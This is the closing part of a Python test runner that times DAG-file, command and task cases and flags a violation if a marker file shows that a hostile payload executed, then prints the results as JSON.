        check_dag_cases(dags, result, kube)
        result.figures["DAG-file cases"] = f"{len(dags)} in {time.monotonic() - began:.1f}s"
        began = time.monotonic()
        check_cli_cases(clis, result, kube)
        result.figures["command cases"] = f"{len(clis)} in {time.monotonic() - began:.1f}s"
        began = time.monotonic()
        check_task_cases(tasks, result, kube, files)
        result.figures["task cases"] = f"{len(tasks)} in {time.monotonic() - began:.1f}s"
        if (files / MARKER).exists():
            result.violate(f"a hostile payload ran: {MARKER} was created")
    return result


if __name__ == "__main__":
    import sys

    outcome = run(sys.argv[1] if len(sys.argv) > 1 else "short", 20261126)
    print(json.dumps({"trials": outcome.trials, "figures": outcome.figures, "seconds": outcome.seconds},
                     indent=1))
    print("\n".join(outcome.violations) or "no violations")
